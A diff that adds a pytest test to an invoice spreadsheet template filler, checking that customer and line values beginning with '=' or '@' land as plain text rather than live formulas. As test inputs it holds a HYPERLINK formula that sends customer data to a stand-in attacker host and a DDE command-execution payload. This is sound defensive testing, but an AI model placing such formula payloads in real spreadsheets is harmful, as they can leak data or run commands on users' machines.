@@ -72,3 +72,31 @@ def test_no_lines_leaves_an_empty_line_row():
 def test_not_a_workbook_is_refused_clearly():
     with pytest.raises(xlsx.TemplateError, match="cannot be read"):
         xlsx.fill_template(b"not a zip", HEADER, LINES)
+
+
+def test_placeholder_values_are_data_never_formulas():
+    """A customer, technician or description starting with "=" lands as text; the template's own
+    formulas stay formulas; characters an .xlsx cannot hold are dropped instead of failing."""
+    wb = Workbook()
+    ws = wb.active
+    ws["A1"] = "{{ invoice.customer }}"
+    ws["A2"] = "Ref {{ invoice.reference }}"
+    ws["A4"] = "{{ line.technician }}"
+    ws["B4"] = "{{ line.description }}"
+    ws["C4"] = "{{ line.amount }}"
+    ws["A6"] = "=SUM(C4:C4)"
+    buf = io.BytesIO()
+    wb.save(buf)
+    hyperlink = '=HYPERLINK("http://attacker.test/?"&A1,"Pay here")'
+    header = dict(HEADER, customer=hyperlink, reference="=1+1")
+    lines = [dict(LINES[0], technician="=cmd|' /C calc'!A0", description="Bell\x07 =2*3"),
+             dict(LINES[1], technician="@SUM(1)")]
+    data, _missing = xlsx.fill_template(buf.getvalue(), header, lines)
+    sheet = read(data)
+    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", hyperlink)
+    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "Ref =1+1")
+    assert (sheet["A4"].data_type, sheet["A4"].value) == ("s", "=cmd|' /C calc'!A0")
+    assert (sheet["B4"].data_type, sheet["B4"].value) == ("s", "Bell =2*3")
+    assert (sheet["A5"].data_type, sheet["A5"].value) == ("s", "@SUM(1)")
+    assert (sheet["C4"].data_type, sheet["C4"].value) == ("n", 142.5)
+    assert (sheet["A7"].data_type, sheet["A7"].value) == ("f", "=SUM(C4:C4)")
